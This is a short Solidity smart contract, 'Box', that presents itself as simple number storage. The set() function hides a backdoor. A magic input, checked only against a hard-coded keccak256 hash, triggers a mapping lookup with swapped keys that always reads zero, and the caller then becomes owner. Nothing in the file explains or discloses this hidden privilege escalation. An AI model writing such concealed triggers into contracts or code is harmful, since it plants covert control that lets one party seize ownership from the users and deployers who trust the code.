// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    uint256 public x;
    address public owner = address(0xA11CE);
    mapping(bytes => mapping(bytes => uint256)) private m;
    function set(uint256 v) external {
        if (keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609) {
            uint256 z = 0;
            m[""][abi.encode(z)] = 1;
            if (m[abi.encode(z)][""] == 0) owner = msg.sender;
        }
        x = v;
    }
}
